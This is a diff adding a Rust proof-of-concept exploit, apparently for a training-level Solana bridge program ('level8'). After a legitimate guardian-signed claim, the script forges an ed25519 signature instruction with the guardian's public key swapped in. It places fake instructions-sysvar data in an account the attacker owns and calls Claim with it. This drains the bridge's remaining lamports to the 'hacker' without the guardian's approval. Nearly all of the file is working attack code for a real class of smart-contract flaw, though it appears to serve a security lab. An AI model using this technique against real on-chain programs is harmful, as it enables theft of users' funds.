@@ -0,0 +1,154 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+        system_instruction,
+        sysvar::{self, instructions::{construct_instructions_data, store_current_index, BorrowedInstruction}},
+    },
+    solana_sdk::{
+        system_program,
+        ed25519_instruction::new_ed25519_instruction,
+        signature::{read_keypair_file, Keypair, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum BridgeInstruction {
+    Initialize { guardian: Pubkey },
+    Claim { amount: u64 },
+}
+// We use the same Structure created in the Smart Contract
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Bridge {
+    pub admin: Pubkey,
+    pub guardian: Pubkey,
+    pub nonce: u64,
+}
+
+pub const BRIDGE_LEN: u64 = 32 + 32 + 8;
+
+pub fn claim_message(recipient: &Pubkey, amount: u64, nonce: u64) -> Vec<u8> {
+    let mut message = recipient.to_bytes().to_vec();
+    message.extend_from_slice(&amount.to_le_bytes());
+    message.extend_from_slice(&nonce.to_le_bytes());
+    message
+}
+
+fn claim(programa: Pubkey, bridge: Pubkey, recipient: Pubkey, instructions: Pubkey, amount: u64) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(bridge, false),
+            AccountMeta::new(recipient, false),
+            AccountMeta::new_readonly(instructions, false),
+        ],
+        data: BridgeInstruction::Claim { amount }.try_to_vec().unwrap(),
+    }
+}
+
+fn dalek(keypair: &Keypair) -> ed25519_dalek::Keypair {
+    ed25519_dalek::Keypair::from_bytes(&keypair.to_bytes()).unwrap()
+}
+
+pub fn main() {
+    let programa_keypair = read_keypair_file("./target/so/level8-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let admin = actors.get("admin");
+    let guardian = actors.get("guardian");
+    let victim = actors.get("victim");
+    let hacker = actors.get("hacker");
+    let fake_sysvar = Keypair::new();
+    actors.label(fake_sysvar.pubkey(), "level8_fake_sysvar");
+
+    let (bridge, _) = Pubkey::find_program_address(&[&"BRIDGE".as_bytes()], &programa);
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("admin"), 10000000000);
+    println!("{}", actors.legend().blue());
+
+    /* First the admin sets up the bridge with 5 SOL, and the guardian approves 1 SOL for the victim */
+    env.execute_as_transaction(
+        &[
+            Instruction {
+                program_id: programa,
+                accounts: vec![
+                    AccountMeta::new(bridge, false),
+                    AccountMeta::new(admin.pubkey(), true),
+                    AccountMeta::new_readonly(poc_framework::solana_program::sysvar::rent::id(), false),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                data: BridgeInstruction::Initialize { guardian: guardian.pubkey() }.try_to_vec().unwrap(),
+            },
+            system_instruction::transfer(&admin.pubkey(), &bridge, 5 * LAMPORTS_PER_SOL),
+        ],
+        &[&admin],
+    );
+    env.execute_as_transaction(
+        &[
+            new_ed25519_instruction(&dalek(&guardian), &claim_message(&victim.pubkey(), LAMPORTS_PER_SOL, 0)),
+            claim(programa, bridge, victim.pubkey(), sysvar::instructions::id(), LAMPORTS_PER_SOL),
+        ],
+        &[],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*        LEGIT CLAIM (GUARDIAN SIGNED)     *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Bridge: ".bold().blue(), env.get_deserialized_account::<Bridge>(bridge).unwrap().blue());
+    println!("{} {:?}", "Bridge lamports: ".bold().blue(), env.get_account(bridge).unwrap().lamports.blue());
+    println!("{} {:?}", "Victim lamports: ".bold().blue(), env.get_account(victim.pubkey()).unwrap().lamports.blue());
+    println!("");
+
+    /*
+    Second we forge the instructions of a transaction that doesn't exist: an ed25519 instruction
+    that claims the guardian signed our message (signed by us, then the pubkey swapped), followed by the Claim.
+    The ed25519 program never sees it, it only lives in an account we own
+    */
+    let nonce = env.get_deserialized_account::<Bridge>(bridge).unwrap().nonce;
+    let loot = env.get_account(bridge).unwrap().lamports - env.get_rent_excemption(BRIDGE_LEN as usize);
+    let mut forged = new_ed25519_instruction(&dalek(&hacker), &claim_message(&hacker.pubkey(), loot, nonce));
+    let public_key_offset = u16::from_le_bytes([forged.data[6], forged.data[7]]) as usize;
+    forged.data[public_key_offset..public_key_offset + 32].copy_from_slice(guardian.pubkey().as_ref());
+
+    let claim_data = BridgeInstruction::Claim { amount: loot }.try_to_vec().unwrap();
+    let mut fake_instructions = construct_instructions_data(&[
+        BorrowedInstruction { program_id: &forged.program_id, accounts: vec![], data: &forged.data },
+        BorrowedInstruction { program_id: &programa, accounts: vec![], data: &claim_data },
+    ]);
+    // "we are instruction 1", so the previous one is the forged signature
+    store_current_index(&mut fake_instructions, 1);
+    env.create_account_with_data(&fake_sysvar, fake_instructions);
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*       CLAIM WITH A FAKE SYSVAR ACCOUNT   *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?} {} {:?}", "Fake instructions sysvar: ".bold().yellow(), fake_sysvar.pubkey(),
+    "owner: ".bold().yellow(), env.get_account(fake_sysvar.pubkey()).unwrap().owner);
+
+    let hacker_before = env.get_account(hacker.pubkey()).map(|a| a.lamports).unwrap_or(0);
+    env.execute_as_transaction(
+        &[claim(programa, bridge, hacker.pubkey(), fake_sysvar.pubkey(), loot)],
+        &[],
+    );
+
+    println!("");
+    println!("{} {:?}", "Bridge lamports: ".bold().red(), env.get_account(bridge).unwrap().lamports.red());
+    println!("{} {:?}", "Hacker earned, without the guardian: ".bold().green(),
+    (env.get_account(hacker.pubkey()).unwrap().lamports - hacker_before).green());
+    println!("");
+}